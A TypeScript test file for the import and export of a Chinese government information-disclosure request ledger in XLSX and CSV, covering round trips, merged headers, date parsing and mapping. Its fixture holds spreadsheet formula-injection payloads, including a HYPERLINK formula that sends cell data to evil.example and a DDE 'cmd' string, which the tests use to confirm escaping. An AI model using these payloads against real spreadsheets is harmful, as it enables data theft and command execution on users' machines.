/**
 * The 台账 in and out of a spreadsheet, without a database (src/register/ledger.ts): the export's
 * sheets and cells, round trips through XLSX and CSV, offices' own sheets (title rows, two-level
 * merged headers, dates in every form, 是/否 columns, outcome words), the suggested mapping, the
 * per-row problems and warnings, and the limits.
 */
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import {
  applyEvent,
  baseOf,
  type Case,
  type CaseEvent,
  createCase,
  type NewCase,
  OUTCOME_ZH,
  status,
  voidEvent,
} from '../src/register/case.js';
import {
  CASE_COLUMNS,
  detectHeader,
  EVENT_COLUMNS,
  LEDGER_LIMITS,
  LedgerError,
  type LedgerPlan,
  ledgerWorkbook,
  parseApplicantType,
  parseChannel,
  parseDateCell,
  parseOutcome,
  parseYesNo,
  planSummary,
  readLedger,
  readSheets,
  resolveMapping,
  suggestMapping,
  writeLedgerCsv,
  writeLedgerXlsx,
} from '../src/register/ledger.js';
import { generate } from './helpers/register-gen.js';

const TODAY = '2027-12-31';
const read = (bytes: Uint8Array, name: string, extra: Partial<Parameters<typeof readLedger>[3]> = {}, mapping = null) =>
  readLedger(bytes, name, mapping, { today: TODAY, user: '导入员', ...extra });

/** a case with every field and every kind of event, its text written to tempt a spreadsheet into formulas */
function trickyCase(): Case {
  const by = '=登记人';
  const input: NewCase = {
    id: '=1+1',
    applicant: {
      name: '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
      identity: { type: '居民身份证', number: '110101199001011234' },
      contact: { phone: '+86 138 0000 0000', address: '@home，某路1号', email: '-x@example.com' },
    },
    applicantType: 'commercial',
    request: { description: "+cmd|' /C calc'!A0\n第二行，含“引号”,逗号", documentNumber: "'=已加撇号" },
    delivery: { form: '纸质', channel: '邮寄' },
    receipt: { channel: 'internet', arrivedOn: '2025-03-01', confirmedOn: '2025-03-03' },
    registeredBy: by,
  };
  const events: CaseEvent[] = [
    { type: 'correctionNotice', on: '2025-03-05', by, deadline: '2025-03-20', items: '-缺少身份证明' },
    { type: 'correctionReceived', on: '2025-03-10', by, goodReason: '@邮路延误' },
    { type: 'consultationStarted', on: '2025-03-12', by, party: 'agency', consulted: '某市自然资源局' },
    { type: 'consultationEnded', on: '2025-03-20', by, result: 'objected', note: '书面回复' },
    { type: 'extension', on: '2025-04-01', by, days: 5, approver: '主任', applicantNotified: true, reason: '=需要协调' },
    { type: 'feeNotice', on: '2025-04-02', by, fee: { method: 'perApplication', priorThisMonth: 12, units: 2 } },
    { type: 'feePaid', on: '2025-04-08', by },
    { type: 'reply', on: '2025-04-15', by, outcome: 'partlyGranted', reasons: '@第三方商业秘密' },
    { type: 'proceedingFiled', on: '2025-05-06', by, id: 'R-1', kind: 'review' },
    { type: 'proceedingDecided', on: '2025-07-01', by, id: 'R-1', result: 'corrected', decision: '=撤销重作' },
  ];
  let c = createCase(input);
  for (const e of events) c = applyEvent(c, e);
  return c;
}

/** generated legal cases, a tricky one, and some with their last event voided */
function sampleCases(): Case[] {
  const cases = generate(11, 90);
  let voided = 0;
  const out = cases.map((c) => {
    if (c.events.length === 0 || voided >= 8 || c.events.length % 2 === 1) return c;
    voided++;
    return voidEvent(c, c.events.length, { by: '科长', reason: '登记错误，作废', at: `2026-01-0${voided}T08:30:00.000Z` });
  });
  expect(voided).toBe(8);
  return [trickyCase(), ...out];
}

function expectSameRegister(plan: LedgerPlan, cases: Case[]): void {
  expect(plan.rows.map((r) => [r.row, r.status, r.problems])).toEqual(plan.rows.map((r) => [r.row, 'new', []]));
  expect(plan.rows.map((r) => r.caseId)).toEqual(cases.map((c) => c.id));
  for (const c of cases) {
    const r = plan.rows.find((x) => x.caseId === c.id)!;
    expect(r.input).toEqual(baseOf(c));
    expect(r.events).toEqual(c.events);
    expect(r.case?.state.closed).toEqual(c.state.closed);
  }
}

describe('export', () => {
  it('writes the two sheets: Chinese headers bold and frozen, dates as dates, the 暂定 visible, events with their voiding', async () => {
    const open = createCase({ ...baseOf(trickyCase()), id: 'O-1', receipt: { channel: 'inPerson', arrivedOn: '2025-01-02' } });
    const future = createCase({ ...baseOf(trickyCase()), id: 'P-1', receipt: { channel: 'inPerson', arrivedOn: '2030-03-01' } });
    const items = [
      { case: trickyCase(), status: status(trickyCase(), '2025-08-01') },
      { case: open, status: status(open, '2025-06-01') },
      { case: future, status: status(future, '2030-03-05') },
    ];
    expect(items[2].status.replyDueProvisional).toBe(true);
    const book = ledgerWorkbook(items, { date: '2025-08-01' });
    const bytes = await writeLedgerXlsx(book);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['申请台账', '事件']);
    const ws = wb.worksheets[0];
    expect((ws.getRow(1).values as unknown[]).slice(1)).toEqual([...CASE_COLUMNS]);
    expect(ws.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.getColumn(9).width).toBeGreaterThan(20);
    const col = (name: string) => CASE_COLUMNS.indexOf(name as (typeof CASE_COLUMNS)[number]) + 1;
    const received = ws.getRow(2).getCell(col('收到申请日期'));
    expect(received.value).toEqual(new Date(Date.UTC(2025, 2, 3)));
    expect(received.numFmt).toBe('yyyy-mm-dd');
    expect(ws.getRow(2).getCell(col('状态')).value).toBe('已办结');
    expect(ws.getRow(2).getCell(col('办理结果')).value).toBe('部分公开');
    expect(ws.getRow(2).getCell(col('征求意见')).value).toBe('其他机关：某市自然资源局（2025-03-12 起，2025-03-20 结束，反对）');
    expect(ws.getRow(2).getCell(col('复议诉讼')).value).toBe('行政复议 R-1：2025-05-06 立案，2025-07-01 结果纠正');
    expect(ws.getRow(3).getCell(col('状态')).value).toBe('逾期');
    const due = ws.getRow(4).getCell(col('答复期限'));
    expect(due.value).toBeInstanceOf(Date);
    expect(due.numFmt).toContain('暂定');
    const ev = wb.worksheets[1];
    expect((ev.getRow(1).values as unknown[]).slice(1)).toEqual([...EVENT_COLUMNS]);
    expect(ev.rowCount).toBe(1 + trickyCase().events.length);
    expect(ev.getRow(2).getCell(4).value).toBe('补正告知');
    expect(ev.getRow(2).getCell(3).value).toEqual(new Date(Date.UTC(2025, 2, 5)));
    // CSV: dates as text, the 暂定 spelt out
    const csv = new TextDecoder('utf-8', { ignoreBOM: true }).decode(writeLedgerCsv(book.cases));
    expect(csv.startsWith('\uFEFF编号,申请人,')).toBe(true);
    expect(csv).toMatch(/\d{4}-\d{2}-\d{2}（暂定）/);
    expect(csv.split('\r\n').length).toBe(5);
  });

  it('never writes a formula: XLSX text with the Text format and quotePrefix, CSV with an apostrophe, both read back unchanged', async () => {
    const c = trickyCase();
    const book = ledgerWorkbook([{ case: c, status: null }], { date: '2025-08-01' });
    const files = unzipSync(await writeLedgerXlsx(book));
    for (const [name, data] of Object.entries(files)) {
      if (/^xl\/worksheets\/sheet\d+\.xml$/.test(name)) expect(strFromU8(data)).not.toMatch(/<f[\s>/]/);
    }
    expect(strFromU8(files['xl/styles.xml'])).toMatch(/numFmtId="49"[^>]*quotePrefix="1"/);
    const strings = strFromU8(files['xl/sharedStrings.xml']);
    expect(strings).toContain('=HYPERLINK(');
    expect(strings).toContain('&apos;&apos;=已加撇号');
    const csv = new TextDecoder().decode(writeLedgerCsv(book.cases));
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""点我"")"`);
    expect(csv).toContain("'=1+1,");
    expect(csv).toContain("''=已加撇号");
    for (const field of csv.split(/,|\r\n/)) expect(field).not.toMatch(/^[=+\-@]/);
    const events = new TextDecoder().decode(writeLedgerCsv(book.events));
    expect(events).toContain("'=撤销重作");
    expect(events).toContain("'-缺少身份证明");
  });
});

describe('round trips', () => {
  it('XLSX: importing the export into an empty register gives the same applications and events, voided ones too', async () => {
    const cases = sampleCases();
    const book = ledgerWorkbook(
      cases.map((c) => ({ case: c, status: null })),
      { date: '2026-02-01' },
    );
    const plan = await read(await writeLedgerXlsx(book), '台账.xlsx');
    expect(plan.sheet).toBe('申请台账');
    expect(plan.eventsSheet).toBe('事件');
    expect(plan.headerRows).toEqual([1]);
    expect(plan.skipped).toBe(0);
    expectSameRegister(plan, cases);
    expect(plan.rows.filter((r) => r.events.some((e) => e.voided))).toHaveLength(8);
  });

  it('CSV: the cases sheet and the events sheet as two files give the same register', async () => {
    const cases = sampleCases();
    const book = ledgerWorkbook(
      cases.map((c) => ({ case: c, status: null })),
      { date: '2026-02-01' },
    );
    const plan = await read(writeLedgerCsv(book.cases), '申请.csv', { events: { bytes: writeLedgerCsv(book.events), name: '事件.csv' } });
    expect(plan.kind).toBe('csv');
    expect(plan.eventsSheet).toBe('事件.csv');
    expectSameRegister(plan, cases);
  });

  it('CSV: the cases sheet alone carries the applications and the events its summary columns say', async () => {
    const c = trickyCase();
    const simple = createCase({ ...baseOf(c), id: 'S-1', receipt: { channel: 'inPerson', arrivedOn: '2025-03-03' } });
    const replied = applyEvent(applyEvent(simple, { type: 'correctionNotice', on: '2025-03-04', by: '=登记人', deadline: '2025-03-18' }), {
      type: 'correctionReceived',
      on: '2025-03-10',
      by: '=登记人',
    });
    const done = applyEvent(replied, { type: 'reply', on: '2025-03-25', by: '=登记人', outcome: 'unableNotHeld' });
    const book = ledgerWorkbook([{ case: done, status: null }], { date: '2026-02-01' });
    const plan = await read(writeLedgerCsv(book.cases), '申请.csv');
    expect(plan.eventsSheet).toBeNull();
    expect(plan.rows[0].status).toBe('new');
    expect(plan.rows[0].input).toEqual(baseOf(done));
    expect(plan.rows[0].events).toEqual(done.events);
  });
});

// ---------------------------------------------------------------------------
// Offices' own sheets
// ---------------------------------------------------------------------------

const serial = (d: string) => (Date.parse(`${d}T00:00:00Z`) - Date.UTC(1899, 11, 30)) / 86_400_000;
const day = (d: string) => new Date(`${d}T00:00:00Z`);

/** the sheet of a county office: a title, a two-level merged header, dates in every form, a total and a notes row */
async function officeWorkbook(): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('2025年');
  const set = (row: number, values: unknown[]) => {
    values.forEach((v, i) => {
      if (v !== undefined && v !== null && v !== '') ws.getRow(row).getCell(i + 1).value = v as ExcelJS.CellValue;
    });
  };
  set(1, ['2025年政府信息公开申请登记台账']);
  ws.mergeCells('A1:P1');
  set(2, [
    '序号',
    '受理编号',
    '申请人',
    '申请人类型',
    '申请内容',
    '申请方式',
    '申请日期',
    '补正情况',
    '',
    '',
    '是否延期',
    '答复情况',
    '',
    '是否行政复议',
    '联系电话',
    '备注',
  ]);
  set(3, ['', '', '', '', '', '', '', '告知日期', '补正期限', '收到日期', '', '答复日期', '答复结果']);
  for (const c of ['A', 'B', 'C', 'D', 'E', 'F', 'G', 'K', 'N', 'O', 'P']) ws.mergeCells(`${c}2:${c}3`);
  ws.mergeCells('H2:J2');
  ws.mergeCells('L2:M2');
  // 4: a serial date, a Date cell, 是/否
  set(4, [
    1,
    '2025-001',
    '张三',
    '个人',
    '某小区规划许可证',
    '当面',
    serial('2025-03-03'),
    '',
    '',
    '',
    '否',
    day('2025-03-20'),
    '予以公开',
    '否',
    '13800000000',
    '',
  ]);
  // 5: text dates in three forms, 是, a correction, an outcome with its reason in brackets
  set(5, [
    2,
    '2025-002',
    '某某科技有限公司',
    '企业',
    '某项目环评批复',
    '网上申请',
    '2025/3/5',
    '2025年3月7日',
    '2025.3.21',
    20250314,
    '是',
    '2025-04-15',
    '不予公开（第三方）',
    '是',
    '',
    '已电话告知',
  ]);
  // 6: empty
  set(7, [3, '2025-003', '李四', '自然人', '某文件', '邮寄', '25/3/10', '', '', '', '否', '', '', '', '', '']);
  set(8, [4, '2025-004', '王五', '火星人', '某文件', '当面', '2025-03-12', '', '', '', '', '2025-03-20', '予以公开']);
  set(9, [5, '2025-005', '赵六', '自然人', '某文件', '当面', '2025-03-13', '', '', '', '', '三月二十日', '大概公开了吧']);
  set(10, [6, '2025-006', '钱七', '自然人', '某文件', '当面', '', '', '', '', '', '2025-03-20', '予以公开']);
  set(11, [7, '2025-007', '孙八', '自然人', '某文件', '当面', '2025-03-14', '', '', '', '', '2025-03-10', '予以公开']);
  set(12, [8, '2025-008', '周九', '自然人', '某文件', '当面', '2025-03-14']);
  set(13, [9, '2025-008', '吴十', '自然人', '另一文件', '当面', '2025-03-17']);
  set(14, [10, '2025-010', '某律师事务所', '律师事务所', '某判决书', '信函', '2025年3月17日', '', '', '', '否', 20250320, '信息不存在']);
  set(15, ['合计', '', '10件']);
  set(16, ['说明：1.本表按收到申请的先后登记；2.申请方式为当面、邮寄、网上。']);
  ws.mergeCells('A16:P16');
  return new Uint8Array(await wb.xlsx.writeBuffer());
}

describe('an office sheet', () => {
  it('finds the header under the title, combines the two levels, and suggests the mapping', async () => {
    const plan = await read(await officeWorkbook(), '台账.xlsx');
    expect(plan.headerRows).toEqual([2, 3]);
    expect(plan.columns.map((c) => c.header)).toEqual([
      '序号',
      '受理编号',
      '申请人',
      '申请人类型',
      '申请内容',
      '申请方式',
      '申请日期',
      '补正情况·告知日期',
      '补正情况·补正期限',
      '补正情况·收到日期',
      '是否延期',
      '答复情况·答复日期',
      '答复情况·答复结果',
      '是否行政复议',
      '联系电话',
      '备注',
    ]);
    const mapped = Object.fromEntries(Object.entries(plan.mapping).filter(([, v]) => v !== null));
    expect(mapped).toEqual({
      id: 1,
      applicantName: 2,
      applicantType: 3,
      description: 4,
      receiptChannel: 5,
      arrivedOn: 6,
      correctionNoticeOn: 7,
      correctionDeadline: 8,
      correctionReceivedOn: 9,
      extension: 10,
      replyOn: 11,
      outcome: 12,
      review: 13,
      phone: 14,
      note: 15,
    });
    expect(plan.columns[6].samples).toEqual(['45719', '2025/3/5', '25/3/10']);
  });

  it('a second header row of the sheet’s own words under vertically merged cells, and 时间 for a day', async () => {
    // the shape of a 司法局 sheet: 申请人信息 over 姓名/名称 | 类别 | 联系电话, the other headers merged over both rows
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('2025年台账');
    ws.addRow(['某县司法局2025年政府信息公开申请办理情况登记表']);
    ws.mergeCells('A1:L1');
    ws.addRow([
      '序号',
      '受理编号',
      '申请人信息',
      null,
      null,
      '申请公开内容',
      '申请方式',
      '受理时间',
      '补正情况',
      null,
      '答复时间',
      '答复结果',
    ]);
    ws.addRow([null, null, '姓名/名称', '类别', '联系电话', null, null, null, '补正告知时间', '补正收到时间', null, null]);
    for (const r of ['A2:A3', 'B2:B3', 'C2:E2', 'F2:F3', 'G2:G3', 'H2:H3', 'I2:J2', 'K2:K3', 'L2:L3']) ws.mergeCells(r);
    ws.addRow([1, 'SFJ-01', '李某', '公民', '139', '执业许可材料', '网上申请', '2025.3.5', null, null, '2025年3月20日', '予以公开']);
    ws.addRow([2, 'SFJ-02', '某某公司', '企业', '0517', '处罚决定书', '信函', 45740, '2025/3/26', '2025-04-01', '2025-04-25', '部分公开']);
    const plan = await read(new Uint8Array(await wb.xlsx.writeBuffer()), '司法局.xlsx');
    expect(plan.headerRows).toEqual([2, 3]);
    const mapped = Object.fromEntries(Object.entries(plan.mapping).filter(([, v]) => v !== null));
    expect(mapped).toMatchObject({
      id: 1,
      applicantName: 2,
      applicantType: 3,
      phone: 4,
      description: 5,
      receiptChannel: 6,
      correctionNoticeOn: 8,
      correctionReceivedOn: 9,
      replyOn: 10,
      outcome: 11,
    });
    expect([mapped.arrivedOn, mapped.receivedOn]).toContain(7);
    expect(plan.rows.map((r) => [r.row, r.caseId, r.status, r.problems])).toEqual([
      [4, 'SFJ-01', 'new', []],
      [5, 'SFJ-02', 'new', []],
    ]);
    const two = plan.rows[1];
    expect(two.case?.applicantType).toBe('commercial');
    expect(two.case?.receivedOn).toBe('2025-03-24');
    expect(two.case?.state.closed?.outcome).toBe('partlyGranted');
  });

  it('reads every row: dates in every form, 是/否, outcome words; problems with row and column; skipped rows counted', async () => {
    const plan = await read(await officeWorkbook(), '台账.xlsx');
    expect(plan.skipped).toBe(3);
    const byRow = new Map(plan.rows.map((r) => [r.row, r]));
    expect([...byRow.keys()]).toEqual([4, 5, 7, 8, 9, 10, 11, 12, 13, 14]);
    const status = Object.fromEntries(plan.rows.map((r) => [r.row, r.status]));
    expect(status).toEqual({
      4: 'new',
      5: 'new',
      7: 'error',
      8: 'error',
      9: 'error',
      10: 'error',
      11: 'error',
      12: 'error',
      13: 'error',
      14: 'new',
    });

    const r4 = byRow.get(4)!;
    expect(r4.input).toMatchObject({
      id: '2025-001',
      applicantType: 'naturalPerson',
      applicant: { name: '张三', identity: { type: '台账未记录', number: '台账未记录' }, contact: { phone: '13800000000' } },
      delivery: { form: '台账未记录', channel: '台账未记录' },
      receipt: { channel: 'inPerson', arrivedOn: '2025-03-03' },
      registeredBy: '导入员',
    });
    expect(r4.events).toEqual([{ type: 'reply', on: '2025-03-20', by: '导入员', outcome: 'granted' }]);
    expect(r4.warnings.map((w) => w.zh).join('')).toContain('台账未记录第二十九条要求的身份证明、获取信息的形式和途径');

    const r5 = byRow.get(5)!;
    expect(r5.input?.receipt).toEqual({ channel: 'internet', arrivedOn: '2025-03-05', confirmedOn: '2025-03-05' });
    expect(r5.input?.applicantType).toBe('commercial');
    expect(r5.events.map((e) => [e.type, e.on])).toEqual([
      ['correctionNotice', '2025-03-07'],
      ['correctionReceived', '2025-03-14'],
      ['extension', '2025-04-15'],
      ['reply', '2025-04-15'],
      ['proceedingFiled', '2025-04-15'],
    ]);
    expect(r5.events[0]).toMatchObject({ deadline: '2025-03-21' });
    expect(r5.events[3]).toMatchObject({ outcome: 'withheldThirdParty', note: '已电话告知' });
    expect(r5.events[4]).toMatchObject({ kind: 'review' });
    const w5 = r5.warnings.map((w) => [w.column, w.zh]);
    expect(w5).toContainEqual(['确认日期', expect.stringContaining('按收件日期 2025-03-05 计')]);
    expect(w5).toContainEqual(['是否延期', expect.stringContaining('按 20 个工作日计')]);
    expect(w5).toContainEqual(['是否行政复议', expect.stringContaining('立案、审结日期未记录')]);

    const problem = (row: number) => byRow.get(row)!.problems.map((p) => [p.column, p.zh]);
    expect(problem(7)).toEqual([['申请日期', expect.stringContaining('“25/3/10”只有两位年份')]]);
    expect(byRow.get(7)!.problems[0].en).toContain('two-digit year');
    expect(problem(8)).toEqual([['申请人类型', expect.stringContaining('申请人类型“火星人”无法识别')]]);
    expect(problem(9)).toEqual([
      ['答复情况·答复结果', expect.stringContaining('办理结果“大概公开了吧”无法识别')],
      ['答复情况·答复日期', expect.stringContaining('“三月二十日”不是可识别的日期')],
    ]);
    expect(problem(10)).toEqual([['申请日期', '没有收件日期（收到申请的日期），无法计算期限。']]);
    expect(problem(11)).toEqual([
      [undefined, expect.stringMatching(/第 1 个事件“答复”（2025-03-10）被拒绝：答复的日期 2025-03-10 早于收到申请之日 2025-03-14/)],
    ]);
    expect(byRow.get(11)!.problems[0].en).toMatch(/before the date of receipt/);
    expect(problem(12)).toEqual([['受理编号', expect.stringContaining('编号“2025-008”在文件中重复（另见第 13 行）')]]);
    expect(problem(13)).toEqual([['受理编号', expect.stringContaining('（另见第 12 行）')]]);

    const r14 = byRow.get(14)!;
    expect(r14.input).toMatchObject({ applicantType: 'legalService', receipt: { channel: 'post', arrivedOn: '2025-03-17' } });
    expect(r14.events).toEqual([{ type: 'reply', on: '2025-03-20', by: '导入员', outcome: 'unableNotHeld' }]);
    expect(planSummary(plan)).toEqual({ rows: 10, new: 3, exists: 0, errors: 7, conflicts: 0, skipped: 3 });
  });

  it('a mapping given by a person overrides the suggestion; the same column cannot serve two fields', async () => {
    const bytes = await officeWorkbook();
    const plan = await read(bytes, '台账.xlsx', {}, { note: null, registeredBy: 15 } as never);
    expect(plan.mapping.note).toBeNull();
    expect(plan.mapping.registeredBy).toBe(15);
    const r5 = plan.rows.find((r) => r.row === 5)!;
    expect(r5.input?.registeredBy).toBe('已电话告知');
    await expect(read(bytes, '台账.xlsx', {}, { nosuch: 1 } as never)).rejects.toMatchObject({ code: 'bad-input' });
    await expect(read(bytes, '台账.xlsx', {}, { note: 99 } as never)).rejects.toThrow(/不存在/);
    await expect(read(bytes, '台账.xlsx', {}, { note: 3, phone: 3 } as never)).rejects.toThrow(/同时对应/);
  });

  it('a CSV in GB18030 with a two-level header and no case numbers: ids derived from the content, the same every time', async () => {
    const text = [
      '2025年依申请公开台账,,,,,',
      '申请人,申请内容,收件日期,答复,,备注',
      ',,,日期,结果,',
      '张三,某小区规划,2025-3-5,2025-3-20,公开,',
      '李四,某项目批复,20250306,2025/03/21,部分公开,',
      ',,,,,',
      '合计,2件,,,,',
    ].join('\r\n');
    const bytes = new Uint8Array(iconv.encode(text, 'gb18030'));
    const plan = await read(bytes, '台账.csv');
    expect(plan.headerRows).toEqual([2, 3]);
    expect(plan.columns.map((c) => c.header)).toEqual(['申请人', '申请内容', '收件日期', '答复·日期', '答复·结果', '备注']);
    expect(plan.mapping).toMatchObject({ applicantName: 0, description: 1, arrivedOn: 2, replyOn: 3, outcome: 4, note: 5, id: null });
    expect(plan.rows.map((r) => r.status)).toEqual(['new', 'new']);
    expect(plan.rows.map((r) => r.caseId)).toEqual([
      expect.stringMatching(/^2025-导入-[0-9a-f]{8}$/),
      expect.stringMatching(/^2025-导入-[0-9a-f]{8}$/),
    ]);
    expect(plan.rows[0].caseId).not.toBe(plan.rows[1].caseId);
    expect(plan.rows[0].warnings.map((w) => w.zh).join('')).toContain('按申请人名称推定为“自然人”');
    expect(plan.rows[1].events).toEqual([{ type: 'reply', on: '2025-03-21', by: '导入员', outcome: 'partlyGranted' }]);
    expect(plan.skipped).toBe(2);
    const again = await read(bytes, '台账.csv', { user: '另一人' });
    expect(again.rows.map((r) => r.caseId)).toEqual(plan.rows.map((r) => r.caseId));
  });

  it('UTF-8 CSV with and without BOM, tab separated, reads the same', async () => {
    const text = '编号\t申请人\t申请人类型\t申请内容\t收件日期\r\nA-1\t张三\t自然人\t某信息\t2025-03-05\r\n';
    const a = await read(new TextEncoder().encode(text), 'a.csv');
    const b = await read(new TextEncoder().encode(`\uFEFF${text}`), 'b.csv');
    expect(a.rows[0].input).toEqual(b.rows[0].input);
    expect(a.rows[0].input).toMatchObject({ id: 'A-1', applicant: { name: '张三' }, receipt: { arrivedOn: '2025-03-05' } });
  });
});

describe('values', () => {
  it('dates: date cells, Excel serials, 8-digit numbers and text in every common form; two-digit years refused', () => {
    const d = (text: string) => parseDateCell({ text });
    for (const t of [
      '2025-03-05',
      '2025/3/5',
      '2025.3.5',
      '2025年3月5日',
      '2025 年 3 月 5 日',
      '20250305',
      '２０２５－０３－０５',
      '2025-03-05 10:30',
      '2025/3/5 9:00:00',
    ]) {
      expect(d(t), t).toEqual({ date: '2025-03-05' });
    }
    expect(parseDateCell({ text: '45721', num: 45721 })).toEqual({ date: '2025-03-05' });
    expect(parseDateCell({ text: '20250305', num: 20250305 })).toEqual({ date: '2025-03-05' });
    expect(parseDateCell({ text: '2025-03-05', date: '2025-03-05' })).toEqual({ date: '2025-03-05' });
    expect(d('25/3/5')).toEqual({ bad: 'two-digit' });
    expect(d('25-03-05')).toEqual({ bad: 'two-digit' });
    expect(d('3/5/25')).toEqual({ bad: 'two-digit' });
    expect(d('2025-02-30')).toEqual({ bad: 'unreadable' });
    expect(d('下周一')).toEqual({ bad: 'unreadable' });
    expect(d('1899-01-01')).toEqual({ bad: 'range' });
    expect(d('')).toBeNull();
    expect(d('—')).toBeNull();
  });

  it('是/否 and its spellings', () => {
    for (const t of ['是', '√', '有', 'Y', 'yes', '✓']) expect(parseYesNo(t), t).toBe(true);
    for (const t of ['否', '×', '无', 'N', 'no', '/']) expect(parseYesNo(t), t).toBe(false);
    expect(parseYesNo('某公司')).toBeNull();
  });

  it('outcome words: every 表二 leaf label, the bare labels and the short forms', () => {
    const reply = (t: string) => {
      const w = parseOutcome(t);
      return w?.kind === 'reply' ? w.outcome : (w?.kind ?? null);
    };
    expect(reply('予以公开')).toBe('granted');
    expect(reply('（一）予以公开')).toBe('granted');
    expect(reply('公开')).toBe('granted');
    expect(reply('部分公开')).toBe('partlyGranted');
    expect(reply('属于国家秘密')).toBe('withheldStateSecret');
    expect(reply('不予公开·属于国家秘密')).toBe('withheldStateSecret');
    expect(reply('不予公开（第三方）')).toBe('withheldThirdParty');
    expect(reply('本机关不掌握相关政府信息')).toBe('unableNotHeld');
    expect(reply('信息不存在')).toBe('unableNotHeld');
    expect(reply('非本机关职责')).toBe('unableNotHeld');
    expect(reply('2.重复申请')).toBe('notProcessedDuplicate');
    expect(reply('信访举报投诉类申请')).toBe('notProcessedComplaint');
    expect(reply('逾期未补正')).toBe('correctionExpired');
    expect(reply('申请人无正当理由逾期不补正、行政机关不再处理其政府信息公开申请')).toBe('correctionExpired');
    expect(reply('逾期未缴费')).toBe('feeExpired');
    expect(reply('撤回')).toBe('withdrawal');
    expect(reply('其他处理·其他（撤回申请）')).toBe('withdrawal');
    expect(reply('其他')).toBe('otherOther');
    expect(reply('办理中')).toBe('open');
    expect(reply('不予公开')).toBeNull();
    expect(reply('大概公开了吧')).toBeNull();
    // every label the export writes (OUTCOME_ZH) reads back as its outcome
    for (const [key, zh] of Object.entries(OUTCOME_ZH)) {
      expect(reply(zh), zh).toBe(key === 'otherNoCorrection' ? 'correctionExpired' : key === 'otherFeeUnpaid' ? 'feeExpired' : key);
    }
  });

  it('applicant types and receipt channels', () => {
    expect(parseApplicantType('个人')).toBe('naturalPerson');
    expect(parseApplicantType('公民')).toBe('naturalPerson');
    expect(parseApplicantType('企业')).toBe('commercial');
    expect(parseApplicantType('有限公司')).toBe('commercial');
    expect(parseApplicantType('律师事务所')).toBe('legalService');
    expect(parseApplicantType('科研机构')).toBe('research');
    expect(parseApplicantType('法人或其他组织·社会公益组织')).toBe('publicInterest');
    expect(parseApplicantType('法人或其他组织')).toBeNull();
    expect(parseApplicantType('火星人')).toBeNull();
    expect(parseChannel('当面')).toBe('inPerson');
    expect(parseChannel('现场递交')).toBe('inPerson');
    expect(parseChannel('邮寄（签收）')).toBe('post');
    expect(parseChannel('信函')).toBe('post');
    expect(parseChannel('平信')).toBe('ordinaryMail');
    expect(parseChannel('网上申请')).toBe('internet');
    expect(parseChannel('政府网站')).toBe('internet');
    expect(parseChannel('电子邮件')).toBe('internet');
    expect(parseChannel('传真')).toBe('fax');
    expect(parseChannel('飞鸽传书')).toBeNull();
  });
});

describe('mapping', () => {
  it('suggests the label first, then a synonym, then containment, never one column for two fields', () => {
    const m = suggestMapping(['收到申请日期', '收件日期', '申请人姓名', '申请人类型（必填）', '收费金额（元）', '联系电话', '电话']);
    expect(m).toMatchObject({ receivedOn: 0, arrivedOn: 1, applicantName: 2, applicantType: 3, feeAmount: 4, phone: 5 });
    const used = Object.values(m).filter((v) => v !== null);
    expect(new Set(used).size).toBe(used.length);
    expect(suggestMapping(['申请人信息·联系电话', '申请人信息·姓名']).phone).toBe(0);
    expect(suggestMapping(['申请人信息·联系电话', '申请人信息·姓名']).applicantName).toBe(1);
    expect(suggestMapping(['办理结果及依据']).outcome).toBe(0);
  });

  it('resolves a person’s mapping given by header, number from 1, letters or index', () => {
    const headers = ['编号', '申请人', '申请内容', '收件日期', '经办'];
    expect(resolveMapping(headers, { registeredBy: '经办' }).registeredBy).toBe(4);
    expect(resolveMapping(headers, { 登记人: 'E' }).registeredBy).toBe(4);
    expect(resolveMapping(headers, { registeredBy: '5' }).registeredBy).toBe(4);
    expect(resolveMapping(headers, { registeredBy: 4 }).registeredBy).toBe(4);
    // taking a suggested column away from its field
    const m = resolveMapping(headers, { note: 2 });
    expect(m.note).toBe(2);
    expect(m.description).toBeNull();
    expect(() => resolveMapping(headers, { registeredBy: 'Z' })).toThrow(LedgerError);
  });

  it('finds no header in a sheet without known column names', () => {
    expect(detectHeader({ name: 's', rows: [{ row: 1, cells: [{ text: '甲' }, { text: '乙' }] }] })).toBeNull();
  });
});

describe('limits and bad files', () => {
  it('refuses what is not a spreadsheet, an empty file, a sheet without a header', async () => {
    await expect(read(new TextEncoder().encode('%PDF-1.7\n...'), 'a.pdf')).rejects.toMatchObject({ code: 'unreadable' });
    await expect(read(new Uint8Array([0x50, 0x4b, 3, 4, 1, 2, 3]), 'a.xlsx')).rejects.toMatchObject({ code: 'unreadable' });
    await expect(read(new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0, 0]), 'a.xls')).rejects.toThrow(/另存为 \.xlsx/);
    await expect(read(new Uint8Array(), 'a.csv')).rejects.toThrow(/空文件/);
    const e = await read(new TextEncoder().encode('甲,乙\n1,2\n'), 'a.csv').catch((x) => x);
    expect(e).toBeInstanceOf(LedgerError);
    expect(e.zh).toContain('找不到表头');
    expect(e.en).toContain('No header row');
  });

  it(`refuses a file over ${LEDGER_LIMITS.bytes / 1024 / 1024} MB and more than ${LEDGER_LIMITS.rows} rows before reading them`, async () => {
    await expect(read(new Uint8Array(LEDGER_LIMITS.bytes + 1), 'big.csv')).rejects.toMatchObject({ code: 'too-large' });
    const rows = ['申请人,申请内容,收件日期'];
    for (let i = 0; i <= LEDGER_LIMITS.rows; i++) rows.push(`张${i},内容,2025-03-05`);
    const e = await read(new TextEncoder().encode(rows.join('\n')), 'many.csv').catch((x) => x);
    expect(e).toMatchObject({ code: 'too-large' });
    expect(e.zh).toContain('20,000');
  });

  it('reads the first worksheet with data; a hidden or empty one is passed over', async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('空');
    const ws = wb.addWorksheet('台账');
    ws.addRow(['申请人', '申请内容', '收件日期']);
    ws.addRow(['张三', '某信息', day('2025-03-05')]);
    const { sheets } = await readSheets(new Uint8Array(await wb.xlsx.writeBuffer()), 'x.xlsx');
